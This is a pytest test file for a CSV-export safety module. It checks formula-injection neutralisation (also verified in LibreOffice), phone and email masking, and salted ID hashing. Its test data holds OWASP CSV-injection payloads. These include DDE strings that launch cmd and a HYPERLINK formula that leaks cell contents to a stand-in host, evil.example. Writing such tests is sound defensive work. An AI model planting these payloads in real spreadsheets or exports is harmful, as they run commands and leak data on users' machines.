"""Formula injection, masking and pseudonyms."""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest

from connectly_nb import read_export
from connectly_nb.safety import hash_ids, mask_phone, neutralize, write_safe_csv
from connectly_nb.schema import EXPORT_COLUMNS
from tests.conftest import csv_text, row

# OWASP's CSV-injection payloads, and the characters it lists
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", OWASP)
def test_neutralize_prefixes_every_owasp_payload(payload):
    out = neutralize(pd.Series([payload, "plain", None]))
    assert out.iloc[0] == "'" + payload.replace("\t=", "\t'=").replace("\r=", "\r'=")
    assert out.iloc[1] == "plain"
    assert pd.isna(out.iloc[2])


def test_a_formula_after_a_semicolon_tab_or_line_break_is_neutralised_too():
    # issue 14, item 5: read with ";" as separator, "Promo;=1+1;" has a cell "=1+1"
    cells = ["Promo;=1+1;", "a\t@SUM(1)", "x\n-2+3", "y\r\n+1", "a;b", "R$ 20; 5-10 off", "a=b"]
    assert neutralize(pd.Series(cells)).tolist() == [
        "Promo;'=1+1;",
        "a\t'@SUM(1)",
        "x\n'-2+3",
        "y\r\n'+1",
        "a;b",
        "R$ 20; 5-10 off",
        "a=b",
    ]


def test_phone_numbers_keep_their_plus_only_in_the_id_column():
    ids = pd.Series(["+5511987654321", "+abc", "+1 555", "-5511"])
    assert neutralize(ids, phone_ids=True).tolist() == [
        "+5511987654321",
        "'+abc",
        "'+1 555",
        "'-5511",
    ]
    assert neutralize(ids).iloc[0] == "'+5511987654321"


def test_saved_csv_is_neutral_readable_and_bom_encoded(write_export, tmp_path):
    ex = read_export(
        write_export(
            [
                row(
                    customer_external_id="+5511987654321",
                    campaign_name=OWASP[0],
                    error_msg=OWASP[4],
                ),
                row(customer_external_id="+5511987654322", campaign_name="Promoção"),
            ]
        )
    )
    path = write_safe_csv(ex, tmp_path / "out.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert [r["campaign_name"] for r in rows] == ["'" + OWASP[0], "Promoção"]
    assert rows[0]["error_msg"] == "'" + OWASP[4]
    assert rows[0]["customer_external_id"] == "+5511987654321"
    assert rows[0]["sent_at"] == "2024-05-10 20:13:50.682000"
    again = read_export(path)
    assert len(again.messages) == 2
    assert not (tmp_path / ".out.csv.partial").exists()


def test_mask_phone_keeps_country_area_and_last_four():
    masked = mask_phone(["+5511987654321", "+14155552671", "5.51199E+12", None, "ab"]).tolist()
    assert masked[0] == "+55 11 *****-4321"
    assert masked[1].startswith("+1 ")
    assert masked[1].endswith("2671")
    assert "415" not in masked[1]
    assert masked[2] == "*********12"
    assert pd.isna(masked[3])
    assert masked[4] == "**"  # short ids that are not phone numbers are hidden whole


def test_hash_ids_is_consistent_salted_and_hides_the_number(monkeypatch):
    a = hash_ids(["+5511987654321", "+5511987654321", "+5511000000000"], salt="s1")
    assert a.iloc[0] == a.iloc[1] != a.iloc[2]
    assert a.iloc[0].startswith("c_")
    assert "5511" not in a.iloc[0]
    assert hash_ids(["+5511987654321"], salt="s2").iloc[0] != a.iloc[0]
    monkeypatch.setenv("CONNECTLY_NB_SALT", "s1")
    assert hash_ids(["+5511987654321"]).iloc[0] == a.iloc[0]


def test_write_safe_csv_never_writes_through_a_planted_link(sample, tmp_path, planted_links):
    # issue 14, item 3: a fixed ".out.csv.partial" opened with open("wb") followed a symlink
    target = tmp_path / "out.csv"
    check = planted_links(target)
    write_safe_csv(sample.messages.head(5), target)
    check()
    assert target.read_bytes().startswith(b'\xef\xbb\xbf"customer_external_id",')


# --------------------------------------------------------------------------- in a real spreadsheet
# issue 14, item 5: header names were written as they were, and in semicolon locales
# "Promo;=1+1;" split into a live formula. LibreOffice reads the saved file here.

SOFFICE = shutil.which("soffice")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2;"click")',
    "Promo;=1+1;",
    "Promo\t=2+2",
    ";=3+3",
    "a,=4+4",
    'q" ;=5+5',
    'x",=6+6',
    "multi\n=7+7",
    "-8+8",
    "@SUM(9+9)",
    "+10+10",
    "=11+11",
    "\t=12+12",
    "x;@SUM(13);+1+1",
]


def need_soffice() -> str:
    if SOFFICE is None:
        message = "LibreOffice is not installed (apt-get install -y libreoffice-calc)"
        if os.environ.get("CI") == "true":
            pytest.fail(message + "; CI=true: the spreadsheet test must run")
        pytest.skip(message)
    return SOFFICE


def formulas_in(paths: list[Path], separator: str, work: Path) -> dict[str, list[str]]:
    """Open each CSV in LibreOffice (UTF-8, '"' quotes) and list the cells read as formulas."""
    out = work / f"out{ord(separator)}"
    subprocess.run(
        [
            need_soffice(),
            f"-env:UserInstallation={(work / 'lo-profile').as_uri()}",
            "--headless",
            f"--infilter=CSV:{ord(separator)},34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *map(str, paths),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    ns = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    found = {}
    for path in paths:
        tree = ElementTree.parse(out / f"{path.stem}.fods")
        found[path.stem] = [
            cell.get(f"{ns}formula")
            for cell in tree.iter(f"{ns}table-cell")
            if cell.get(f"{ns}formula") is not None
        ]
    return found


def test_libreoffice_finds_no_formula_in_a_saved_csv(write_export, tmp_path):
    need_soffice()
    rows = []
    for i, text in enumerate(HOSTILE):
        rows.append(
            row(
                customer_external_id=f"+55119876543{i:02d}",
                campaign_name=text,
                cnt_session_id=text,
                error_msg=text,
                business_id=text,
                hostile=text,
            )
        )
    columns = ["hostile", *EXPORT_COLUMNS]  # an extra column first, so a payload starts a line
    text = csv_text(rows, columns=columns).replace(
        "hostile", '"=HYPERLINK(""http://e.example"")"', 1
    )
    ex = read_export(write_export(text=text))
    assert ex.messages.columns[15].startswith("=HYPERLINK")
    safe = write_safe_csv(ex, tmp_path / "safe.csv")
    control = tmp_path / "control.csv"  # the same cells written plainly: formulas expected
    ex.messages[[*EXPORT_COLUMNS, ex.messages.columns[15]]].to_csv(control, index=False)
    for separator in (",", ";", "\t"):
        found = formulas_in([safe, control], separator, tmp_path)
        assert found["control"], f"no formula seen in the plain file with {separator!r}"
        assert found["safe"] == [], f"formulas with {separator!r} as separator: {found['safe']}"


# --------------------------------------------------------------------------- masking, round 2
# issue 14, items 9-11


def hidden_digits(original: str, masked: str) -> int:
    return sum(ch.isdigit() for ch in original) - sum(ch.isdigit() for ch in masked)


@pytest.mark.parametrize(
    ("number", "masked"),
    [
        ("+999123456789", "***********89"),  # no such country: phonenumbers cannot parse it
        ("+0123456789", "*********89"),
        ("+4930123", "******23"),  # valid but short: only 3 digits would have been hidden
        ("+29812345", "*******45"),  # +298 12345: only 1 digit would have been hidden
    ],
)
def test_numbers_that_cannot_be_masked_well_get_the_strict_mask(number, masked):
    assert mask_phone([number]).iloc[0] == masked


def test_every_countrys_numbers_hide_at_least_five_digits():
    import phonenumbers

    numbers = []
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        for kind in (phonenumbers.PhoneNumberType.MOBILE, phonenumbers.PhoneNumberType.FIXED_LINE):
            example = phonenumbers.example_number_for_type(region, kind)
            if example is not None:
                numbers.append(
                    phonenumbers.format_number(example, phonenumbers.PhoneNumberFormat.E164)
                )
    assert len(numbers) > 400
    masked = mask_phone(numbers)
    few = [(n, m) for n, m in zip(numbers, masked, strict=True) if hidden_digits(n, m) < 5]
    assert few == []


def test_mask_text_masks_phone_numbers_and_emails_inside_free_text():
    from connectly_nb.safety import mask_text

    texts = pd.Series(
        [
            "number +5511987654321 is not on WhatsApp",
            "call +1 (415) 555-2671 today",
            "https://wa.me/5511987654321?text=oi",
            "https://x.example/?phone=%2B5511987654321&utm=1",
            "write to ana.silva+promo@gmail.com or joao%40empresa.com.br",
            "+999123456789 is not a country",
            None,
            "sendout 5f0c1d7e-0000-4000-8000-000000000001: 20% off, R$ 50, 2024-05-10",
        ],
        index=list("abcdefgh"),
    )
    out = mask_text(texts)
    assert out.index.tolist() == list("abcdefgh")
    joined = " ".join(v for v in out if isinstance(v, str))
    for secret in ("987654321", "4155552671", "555-2671", "ana.silva", "joao", "999123456"):
        assert secret not in joined.replace(" ", ""), secret
    assert out["a"] == "number +55 11 *****-4321 is not on WhatsApp"
    assert out["e"] == "write to ***@gmail.com or ***%40empresa.com.br"
    assert pd.isna(out["g"])
    assert out["h"] == texts["h"]  # ids, percentages, prices and dates are not phone numbers


def test_hash_ids_without_a_salt_uses_a_random_one_and_says_so(monkeypatch):
    from connectly_nb.exceptions import PrivacyWarning

    monkeypatch.delenv("CONNECTLY_NB_SALT", raising=False)
    ids = ["+5511987654321", "+5511987654321"]
    with pytest.warns(PrivacyWarning, match="CONNECTLY_NB_SALT"):
        first = hash_ids(ids)
    assert first.iloc[0] == first.iloc[1]  # consistent within the process
    unsalted = "c_" + hashlib.sha256(b"+5511987654321").hexdigest()[:12]
    assert first.iloc[0] != unsalted  # a table of hashed numbers does not reverse it
    with pytest.warns(PrivacyWarning):
        assert hash_ids(ids, salt="").iloc[0] == first.iloc[0]  # an empty salt is no salt
    other = subprocess.run(
        [
            sys.executable,
            "-W",
            "ignore",
            "-c",
            "from connectly_nb.safety import hash_ids; print(hash_ids(['+5511987654321'])[0])",
        ],
        capture_output=True,
        text=True,
        check=True,
        env={k: v for k, v in os.environ.items() if k != "CONNECTLY_NB_SALT"},
    ).stdout.strip()
    assert other.startswith("c_")
    assert other != first.iloc[0]  # another process, another salt
